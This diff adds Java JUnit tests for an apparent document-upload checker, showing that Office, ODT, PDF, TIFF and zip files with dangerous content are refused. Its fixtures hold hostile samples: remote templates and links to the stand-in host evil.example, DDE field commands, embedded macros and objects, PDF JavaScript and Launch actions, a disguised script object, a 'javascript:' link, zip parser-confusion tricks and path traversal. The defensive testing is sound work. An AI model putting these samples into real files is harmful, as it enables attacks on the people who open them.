@@ -10,12 +10,24 @@ import static scot.nrm.documents.SampleFiles.pdf;
 import static scot.nrm.documents.SampleFiles.text;
 import static scot.nrm.documents.SampleFiles.zip;
 
+import java.io.IOException;
+import java.nio.ByteBuffer;
+import java.nio.ByteOrder;
 import java.nio.charset.Charset;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.util.Arrays;
 import java.util.List;
 import java.util.stream.Stream;
+import org.apache.pdfbox.cos.COSDictionary;
+import org.apache.pdfbox.cos.COSName;
+import org.apache.pdfbox.cos.COSObject;
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
+import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
+import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
+import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageXYZDestination;
 import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -116,7 +128,258 @@ class FileCheckTest {
                 ""),
             "contains macros",
             415),
-        arguments("statement.docx", Arrays.copyOf(docx(), docx().length / 3), "damaged", 415));
+        arguments("statement.docx", Arrays.copyOf(docx(), docx().length / 3), "damaged", 415),
+        arguments("report.pdf", text("%PDF-1.7\nnothing else"), "damaged", 415),
+        arguments("photo.jpg", Arrays.copyOf(image("jpg"), 300), "damaged", 415),
+        arguments("photo.png", Arrays.copyOf(image("png"), 50), "damaged", 415));
+  }
+
+  static Stream<Arguments> officeFiles() {
+    return Stream.of(
+        arguments(
+            "statement.docx",
+            docx(
+                "<Relationship Type=\"attachedTemplate\" Target=\"https://evil.example/a.dotm\""
+                    + " TargetMode=\"External\"/>",
+                ""),
+            OfficeFile.REMOTE),
+        arguments(
+            "statement.docx",
+            docx(
+                "<Relationship Type=\"image\" Target=\"https://evil.example/a.png\""
+                    + " TargetMode=\"external\"/>",
+                ""),
+            OfficeFile.REMOTE),
+        arguments(
+            "statement.docx",
+            docx("<Relationship Type=\"frame\" Target=\"\\\\evil.example\\a\"/>", ""),
+            OfficeFile.REMOTE),
+        arguments(
+            "statement.docx",
+            docx(
+                "<Relationship Type=\"hyperlink\" Target=\"file://evil.example/a.exe\""
+                    + " TargetMode=\"External\"/>",
+                ""),
+            OfficeFile.REMOTE),
+        arguments(
+            "statement.docx",
+            docx("<Relationship Type=\"oleObject\" Target=\"a.bin\"/>", ""),
+            OfficeFile.OBJECTS),
+        arguments(
+            "statement.docx",
+            docx("<Relationship Type=\"aFChunk\" Target=\"a.html\"/>", ""),
+            OfficeFile.OBJECTS),
+        arguments(
+            "statement.docx",
+            docx("<Relationship Type=\"control\" Target=\"a.xml\"/>", ""),
+            OfficeFile.OBJECTS),
+        arguments(
+            "statement.docx",
+            docx("<Relationship Type=\"vbaProject\" Target=\"a.bin\"/>", ""),
+            OfficeFile.MACROS),
+        arguments(
+            "statement.docx",
+            docx("", "", "word/embeddings/oleObject1.bin", "a"),
+            OfficeFile.OBJECTS),
+        arguments(
+            "statement.docx", docx("", "", "word\\Embeddings\\a.xlsx", "a"), OfficeFile.OBJECTS),
+        arguments("statement.docx", docx("", "", "word/activeX/a.bin", "a"), OfficeFile.OBJECTS),
+        arguments(
+            "statement.docx",
+            docx(
+                "",
+                "",
+                "a.xml",
+                "<Types><Override ContentType=\"a.macroEnabled.main+xml\"/></Types>"),
+            OfficeFile.MACROS),
+        arguments(
+            "statement.docx", docx("", "<w:fldSimple w:instr=\" DDE a b\"/>"), OfficeFile.REMOTE),
+        arguments(
+            "statement.docx",
+            docx(
+                "",
+                "<w:fldChar w:fldCharType=\"begin\"/><w:p><w:instrText> DDE</w:instrText></w:p>"
+                    + "<w:p><w:instrText>AUTO cmd</w:instrText></w:p>"),
+            OfficeFile.REMOTE),
+        arguments(
+            "statement.odt", odt("", "Basic/Standard/Module1.xml", "<a/>"), OfficeFile.MACROS),
+        arguments("statement.odt", odt("", "./Scripts/python/a.py", "a"), OfficeFile.MACROS),
+        arguments("statement.odt", odt("<script:event-listener/>"), OfficeFile.MACROS),
+        arguments("statement.odt", odt("<text:script>a</text:script>"), OfficeFile.MACROS),
+        arguments(
+            "statement.odt",
+            odt("<draw:object xlink:href=\"./Object 1\"/>", "Object 1/content.xml", "<a/>"),
+            OfficeFile.OBJECTS),
+        arguments(
+            "statement.odt", odt("<draw:object-ole xlink:href=\"./a\"/>"), OfficeFile.OBJECTS),
+        arguments("statement.odt", odt("<draw:floating-frame/>"), OfficeFile.OBJECTS),
+        arguments(
+            "statement.odt",
+            odt("<draw:image xlink:href=\"https://evil.example/a.png\"/>"),
+            OfficeFile.REMOTE),
+        arguments(
+            "statement.odt",
+            odt("<meta:template xlink:href=\"//evil.example/a.ott\"/>"),
+            OfficeFile.REMOTE),
+        arguments(
+            "statement.odt",
+            odt("<text:a xlink:href=\"vnd.sun.star.script:a\">a</text:a>"),
+            OfficeFile.REMOTE),
+        arguments("statement.odt", odt("<text:dde-connection-decl/>"), OfficeFile.REMOTE));
+  }
+
+  @ParameterizedTest
+  @MethodSource("officeFiles")
+  void aFileThatRunsOrFetchesSomethingIsRefused(String name, byte[] content, String sentence) {
+    assertThatThrownBy(() -> files.check(FileName.of(name), content))
+        .isInstanceOf(NotAdded.class)
+        .hasMessage(sentence);
+  }
+
+  /** One program reads the directory at the end of an archive, another one from its beginning. */
+  @Test
+  void anArchiveThatCanBeReadInTwoWaysIsRefused() {
+    byte[] macros = odt("", "Basic/Standard/Module1.xml", "<a/>");
+    byte[] first = odt();
+
+    refused("a.odt", withGap(macros, indexOf(macros, "Basic/") - 30), "damaged");
+    refused("a.odt", withGap(first, 0), "damaged");
+    refused("a.odt", withGap(first, indexOf(first, "PK\1\2")), "damaged");
+    refused("a.odt", withGap(first, indexOf(first, "PK\5\6")), "damaged");
+    refused("a.odt", withGap(first, first.length), "damaged");
+    refused("a.odt", odt("", "Content.xml", "<a/>"), "damaged");
+    refused("a.odt", odt("", "Pictures/../Basic/a.xml", "<a/>"), "damaged");
+    byte[] renamed = odt("", "Pictur/a.xml", "<a/>");
+    int inDirectory = new String(renamed, StandardCharsets.ISO_8859_1).lastIndexOf("Pictur/a.xml");
+    System.arraycopy(text("Basic/"), 0, renamed, inDirectory, 6);
+    refused("a.odt", renamed, "damaged");
+    refused("a.odt", odt("", "a.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"), "damaged");
+    refused("a.odt", odt("", "a.xml", "<a>"), "damaged");
+    refused("a.odt", odt("", "a.xml", "Lo§”"), "damaged");
+  }
+
+  private static byte[] withGap(byte[] content, int at) {
+    byte[] wider = new byte[content.length + 4];
+    System.arraycopy(content, 0, wider, 0, at);
+    System.arraycopy(text("PK\3\4"), 0, wider, at, 4);
+    System.arraycopy(content, at, wider, at + 4, content.length - at);
+    // The directory's entries and its end know the places of what has moved.
+    ByteBuffer zip = ByteBuffer.wrap(wider).order(ByteOrder.LITTLE_ENDIAN);
+    int end = new String(wider, StandardCharsets.ISO_8859_1).lastIndexOf("PK\5\6");
+    int directory = zip.getInt(end + 16) + (at <= zip.getInt(end + 16) ? 4 : 0);
+    zip.putInt(end + 16, directory);
+    for (int entry = directory; zip.getInt(entry) == 0x02014b50; ) {
+      int local = zip.getInt(entry + 42);
+      zip.putInt(entry + 42, local >= at ? local + 4 : local);
+      entry += 46 + zip.getShort(entry + 28) + zip.getShort(entry + 30) + zip.getShort(entry + 32);
+    }
+    return wider;
+  }
+
+  private static int indexOf(byte[] content, String text) {
+    return new String(content, StandardCharsets.ISO_8859_1).indexOf(text);
+  }
+
+  private void refused(String name, byte[] content, String says) {
+    assertThatThrownBy(() -> files.check(FileName.of(name), content))
+        .isInstanceOf(NotAdded.class)
+        .hasMessageContaining(says);
+  }
+
+  static Stream<Arguments> pdfs() {
+    return Stream.of(
+        arguments("JavaScript", "OpenAction", "JS", null),
+        arguments("Launch", "OpenAction", "F", null),
+        arguments("SubmitForm", "AA", "F", null),
+        arguments("ImportData", "Unused", "F", null),
+        arguments("GoToR", "Unused", "F", null),
+        arguments("GoToE", "Unused", "F", null),
+        arguments("Rendition", "Unused", "F", null),
+        arguments(null, "AcroForm", "XFA", null),
+        arguments(null, "Names", "JavaScript", null),
+        arguments(null, "Names", "EmbeddedFiles", null),
+        arguments(null, "Unused", "EF", null),
+        arguments(null, "Unused", "F", "RichMedia"),
+        arguments(null, "Unused", "F", "FileAttachment"),
+        arguments("URI", "OpenAction", "F", null));
+  }
+
+  /** Also where the object is packed with others, which is the usual way. */
+  @ParameterizedTest
+  @MethodSource("pdfs")
+  void aPdfThatDoesSomethingIsRefused(String action, String at, String key, String subtype) {
+    byte[] content =
+        pdf(
+            "A report",
+            pdf -> {
+              COSDictionary dictionary = new COSDictionary();
+              if (action != null) {
+                dictionary.setName(COSName.S, action);
+              }
+              if (subtype != null) {
+                dictionary.setName(COSName.SUBTYPE, subtype);
+              }
+              dictionary.setString(COSName.getPDFName(key), "a");
+              pdf.getDocumentCatalog()
+                  .getCOSObject()
+                  .setItem(COSName.getPDFName(at), new COSObject(dictionary));
+            });
+
+    refused("report.pdf", content, PdfFile.ACTIONS);
+  }
+
+  @Test
+  void aScriptIsFoundThatTheTableOfObjectsDoesNotList() {
+    byte[] content = text("99 0 obj\n<< /S /#4aavaScript /JS (app.alert) >>\nendobj\n");
+    byte[] report = pdf("A report");
+    byte[] both = Arrays.copyOf(report, report.length + content.length);
+    int table = indexOf(report, "startxref");
+    System.arraycopy(content, 0, both, table, content.length);
+    System.arraycopy(report, table, both, table + content.length, report.length - table);
+
+    refused("report.pdf", both, PdfFile.ACTIONS);
+  }
+
+  @Test
+  void aPdfMayHaveALinkToAPageOfTheWebAndAFirstPage() {
+    byte[] content = pdf("A report", pdf -> link(pdf, "https://www.gov.scot/"));
+
+    assertThat(files.check(FileName.of("report.pdf"), content)).isEqualTo(FileType.PDF);
+    refused(
+        "report.pdf", pdf("A report", pdf -> link(pdf, "javascript:alert(1)")), PdfFile.ACTIONS);
+  }
+
+  private static void link(PDDocument pdf, String address) throws IOException {
+    PDActionURI action = new PDActionURI();
+    action.setURI(address);
+    PDAnnotationLink link = new PDAnnotationLink();
+    link.setAction(action);
+    pdf.getPage(0).setAnnotations(List.of(link));
+    PDPageXYZDestination first = new PDPageXYZDestination();
+    first.setPage(pdf.getPage(0));
+    pdf.getDocumentCatalog().setOpenAction(first);
+  }
+
+  @Test
+  void aProtectedPdfIsRefusedWithAndWithoutAPassword() {
+    refused("a.pdf", pdf("A report", pdf -> protect(pdf, "")), PdfFile.PROTECTED);
+    refused("a.pdf", pdf("A report", pdf -> protect(pdf, "password")), PdfFile.PROTECTED);
+  }
+
+  private static void protect(PDDocument pdf, String password) throws IOException {
+    StandardProtectionPolicy policy =
+        new StandardProtectionPolicy("owner", password, new AccessPermission());
+    policy.setEncryptionKeyLength(256);
+    pdf.protect(policy);
+  }
+
+  @Test
+  void aTiffWithDataAboutThePlaceIsRefused() {
+    refused("scan.tif", SampleFiles.tiff(0x8825), Picture.HAS_DATA);
+    refused("scan.tif", SampleFiles.tiff(0x8769), Picture.HAS_DATA);
+    refused("scan.tif", SampleFiles.tiff(700), Picture.HAS_DATA);
+    assertThat(files.check(FileName.of("scan.tif"), SampleFiles.tiff(256)))
+        .isEqualTo(FileType.TIFF);
   }
 
   @ParameterizedTest
